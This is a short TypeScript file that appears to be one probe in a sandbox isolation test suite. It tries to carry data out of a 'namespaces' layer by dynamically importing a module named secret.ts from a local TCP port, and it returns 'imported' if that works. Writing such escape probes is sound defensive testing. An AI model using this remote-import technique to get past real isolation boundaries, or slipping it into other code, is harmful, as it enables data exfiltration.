// Carries data out by importing a remote module.
import { type Target, within } from "../attack.ts";

export const layer = "namespaces";

export default async function (target: Target): Promise<string | null> {
  await within(3000, import(`http://127.0.0.1:${target.tcpPort}/secret.ts`));
  return "imported";
}
